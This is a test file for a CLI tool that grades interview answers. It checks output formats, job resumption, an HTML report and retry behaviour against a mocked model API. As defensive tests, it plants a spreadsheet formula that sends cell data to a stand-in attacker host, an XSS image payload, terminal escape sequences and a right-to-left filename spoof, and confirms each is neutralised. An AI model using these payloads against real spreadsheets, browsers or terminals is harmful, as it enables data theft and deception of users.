import { readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createOpenAiMock, MOCK_BASE_URL, modelGrade } from "./support/openai-mock.js";
import { SAMPLE_ANSWER, tempDbFile } from "./support/app.js";
import { jsonLines, runCli } from "./support/cli.js";
import { csvCell } from "../src/batch/output.js";

const FIXTURE = new URL("./fixtures/batch-answers.jsonl", import.meta.url).pathname;
const mock = createOpenAiMock();
beforeAll(() => mock.server.listen({ onUnhandledFrame: "error" }));
afterEach(() => mock.reset());
afterAll(() => mock.server.close());

describe("starcoach grade (offline)", () => {
  it("grades good rows, reports bad ones in place, and exits 1 with a summary", async () => {
    const db = tempDbFile();
    const r = await runCli(["grade", FIXTURE, "--offline", "--db", db]);
    expect(r.code).toBe(1);
    const lines = jsonLines(r.stdout);
    expect(lines.map((l) => l.id)).toEqual(["backbone-1", "results-1", "customer-1", "frugal-1", "hire-1", "dive-1", "invent-1", "bad-principle", "empty-answer"]);
    expect(lines[0]!.feedback.principle.id).toBe("have-backbone-disagree-and-commit");
    expect(lines[0]!.feedback.meta.mode).toBe("offline");
    expect(lines[7]!.error?.code).toBe("unknown_principle");
    expect(lines[8]!.error?.code).toBe("answer_empty");
    expect(r.stderr).toMatch(/graded 7 of 9 answers/);
    expect(r.stderr).toMatch(/unknown_principle ×1: bad-principle/);
  });

  it("reports a repeated id and reads CSV from standard input", async () => {
    const csv = `id,principle,question,answer\nq1,ownership,,"${SAMPLE_ANSWER}"\nq1,frugality,,"I saved money, twice."\n`;
    const r = await runCli(["grade", "-", "--offline", "--db", tempDbFile()], { stdin: csv });
    const lines = jsonLines(r.stdout);
    expect(lines).toHaveLength(2);
    expect(lines[0]!.feedback).toBeDefined();
    expect(lines[1]!.error?.code).toBe("duplicate_id");
    expect(r.code).toBe(1);
  });

  it("exits 0 when every row is graded, and writes CSV to --out", async () => {
    const db = tempDbFile();
    const input = join(dirname(db), "good.jsonl");
    writeFileSync(input, readFileSync(FIXTURE, "utf8").split("\n").slice(0, 3).join("\n"));
    const out = join(dirname(db), "out.csv");
    const r = await runCli(["grade", input, "--offline", "--db", db, "--format", "csv", "--out", out]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe("");
    const records = parse(readFileSync(out, "utf8"), { columns: true }) as Array<Record<string, string>>;
    expect(records.map((x) => x.id)).toEqual(["backbone-1", "results-1", "customer-1"]);
    expect(Number(records[0]!.overall_score)).toBeGreaterThan(0);
    expect(records[0]!.status).toBe("done");
  });

  it("writes cells a spreadsheet would run as formulas with a leading apostrophe (CSV injection)", async () => {
    const db = tempDbFile();
    const input = join(dirname(db), "formulas.jsonl");
    const ids = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "plain"];
    writeFileSync(input, ids.map((id, i) => JSON.stringify({ id, principle: i === 4 ? "=nope" : "ownership", answer: SAMPLE_ANSWER.replace("Acme", `Acme${i}`) })).join("\n"));
    const out = join(dirname(db), "out.csv");
    await runCli(["grade", input, "--offline", "--db", db, "--format", "csv", "--out", out]);
    const records = parse(readFileSync(out, "utf8"), { columns: true }) as Array<Record<string, string>>;
    expect(records.map((x) => x.id)).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "plain"]);
    expect(records[4]!.error_code).toBe("unknown_principle");
    // Every text cell is checked, not only the id; numbers stay numbers.
    expect(csvCell("\tcmd")).toBe("'\tcmd");
    expect(csvCell("\r=1")).toBe("'\r=1");
    expect(csvCell(-3)).toBe(-3);
    expect(csvCell("a=b")).toBe("a=b");
  });

  it("resumes the same job when the same command runs again", async () => {
    const db = tempDbFile();
    const first = await runCli(["grade", FIXTURE, "--offline", "--db", db]);
    const job = first.stderr.match(/job (job_\w+)/)![1];
    const second = await runCli(["grade", FIXTURE, "--offline", "--db", db]);
    expect(second.stderr).toContain(`resuming job ${job}: 9 of 9 rows already finished`);
    expect(second.stdout).toBe(first.stdout);
  });

  it("writes a self-contained HTML report with the coverage matrix and the planted duplicate story", async () => {
    const db = tempDbFile();
    const report = join(dirname(db), "report.html");
    await runCli(["grade", FIXTURE, "--offline", "--db", db, "--report", report]);
    const html = readFileSync(report, "utf8");
    expect(html).toContain('id="coverage-matrix"');
    expect((html.match(/<tr><td>[^<]+<\/td><td>\d+<\/td>/g) ?? []).length).toBe(16);
    expect(html).toMatch(/Missing: [^.]*Think Big/);
    const dup = html.slice(html.indexOf('id="duplicate-pairs"'), html.indexOf('id="weakest"'));
    expect(dup).toContain("backbone-1");
    expect(dup).toContain("results-1");
    expect(dup).toContain("different principles");
    expect(dup).not.toContain("customer-1");
    // No external assets, no scripts.
    expect(html).not.toMatch(/<script|<link|src=|href="http/i);
  });

  it("escapes user text in the report", async () => {
    const db = tempDbFile();
    const input = join(dirname(db), "evil.jsonl");
    writeFileSync(input, JSON.stringify({ id: "<img src=x onerror=alert(1)>", principle: "<b>nope</b>", answer: "x" }) + "\n");
    const report = join(dirname(db), "r.html");
    await runCli(["grade", input, "--offline", "--db", db, "--report", report]);
    const html = readFileSync(report, "utf8");
    expect(html).not.toContain("<img src=x");
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(html).not.toContain("<b>nope</b>");
  });

  it("prints ids and input text to the terminal with control characters escaped", async () => {
    const db = tempDbFile();
    const input = join(dirname(db), "escapes.jsonl");
    // Set the window title, clear the screen, an 8-bit CSI, a right-to-left override, a bell.
    const ids = ["\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "x\x9b31m", "evil\u202efdp.exe", "a\nb"];
    writeFileSync(input, ids.map((id) => JSON.stringify({ id, principle: "nope", answer: "x\x1b[31m" })).join("\n"));
    const raw = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/;
    const r = await runCli(["grade", input, "--offline", "--db", db]);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(raw);
    expect(r.stderr).toContain("unknown_principle ×5: \\x1b]0;pwned\\x07, \\x1b[2J\\x1b[H, x\\x9b31m, evil\\u202efdp.exe, a\\x0ab");
    // JSONL on stdout is the same JSON, with the controls JSON leaves raw written as \u escapes.
    expect(r.stdout).not.toMatch(/[\x7f-\x9f\u202e]/);
    expect(jsonLines(r.stdout).map((l) => l.id)).toEqual(ids);
    // CSV shown on a terminal: the answer text and ids are escaped too.
    const csv = await runCli(["grade", input, "--offline", "--db", db, "--format", "csv"], { tty: true });
    expect(csv.stdout).not.toMatch(raw);
    // A message quoting the input (a bad CSV header) is escaped as well.
    const header = await runCli(["grade", "-", "--offline", "--db", db, "--input-format", "csv"], { stdin: "\x1b[2Jname,text\n1,2\n" });
    expect(header.code).toBe(2);
    expect(header.stderr).toContain("\\x1b[2Jname,text");
    expect(header.stderr).not.toMatch(raw);
    // Usage errors quote the argument given.
    const usage = await runCli(["grade", "--\x1b]0;x\x07"]);
    expect(usage.code).toBe(2);
    expect(usage.stderr).toContain("\\x1b]0;x\\x07");
    expect(usage.stderr).not.toMatch(raw);
  });

  it("documents every option in --help and rejects a bad --concurrency", async () => {
    const help = await runCli(["grade", "--help"]);
    expect(help.code).toBe(0);
    for (const flag of ["--out", "--format", "--offline", "--concurrency", "--model", "--report", "--openai-batch", "standard input", "Exit status"]) expect(help.stdout).toContain(flag);
    const bad = await runCli(["grade", FIXTURE, "--concurrency", "0"]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain("--concurrency");
    const missing = await runCli(["grade", "/nonexistent/file.csv", "--offline", "--db", tempDbFile()]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain("ENOENT");
  });
});

describe("starcoach grade against the model (MSW)", () => {
  const env = (retries: number) => ({ OPENAI_API_KEY: "sk-test", OPENAI_BASE_URL: MOCK_BASE_URL, STARCOACH_MODEL_RETRIES: String(retries) });

  it("retries a row the provider rate-limits, honouring Retry-After, and finishes the batch", async () => {
    const db = tempDbFile();
    const input = join(dirname(db), "two.jsonl");
    writeFileSync(input, [1, 2].map((i) => JSON.stringify({ id: `r${i}`, principle: "ownership", answer: SAMPLE_ANSWER.replace("Acme", `Acme${i}`) })).join("\n"));
    mock.reply({ kind: "status", status: 429, headers: { "retry-after": "1" } });
    mock.always(mock.grade(modelGrade(SAMPLE_ANSWER)));
    const started = Date.now();
    // SDK retries off: the row-level retry in the batch runner has to do it.
    const r = await runCli(["grade", input, "--db", db, "--concurrency", "1"], { env: env(0) });
    expect(r.code).toBe(0);
    expect(Date.now() - started).toBeGreaterThanOrEqual(900);
    expect(mock.calls).toHaveLength(3);
    const lines = jsonLines(r.stdout);
    expect(lines.map((l) => [l.id, l.feedback?.meta.mode])).toEqual([["r1", "llm"], ["r2", "llm"]]);
    expect(r.stderr).toContain("1 rate-limit retries");
  });

  it("gives up on a row after the retry budget and still grades the rest", async () => {
    const db = tempDbFile();
    const input = join(dirname(db), "one.jsonl");
    writeFileSync(input, [JSON.stringify({ id: "ok", principle: "ownership", answer: SAMPLE_ANSWER }), JSON.stringify({ id: "bad", principle: "ownership", answer: "x" })].join("\n"));
    mock.always(mock.grade(modelGrade(SAMPLE_ANSWER)));
    // A model answer that breaks the schema for the short answer, twice (schema retry), then fails.
    const broken = { kind: "json" as const, content: '{"not":"a grade"}' };
    mock.reply(mock.grade(modelGrade(SAMPLE_ANSWER)), broken, broken);
    const r = await runCli(["grade", input, "--db", db, "--concurrency", "1"], { env: env(0) });
    expect(r.code).toBe(1);
    const lines = jsonLines(r.stdout);
    expect(lines[0]!.feedback.meta.mode).toBe("llm");
    expect(lines[1]!.error?.code).toBe("model_output_invalid");
  });
});
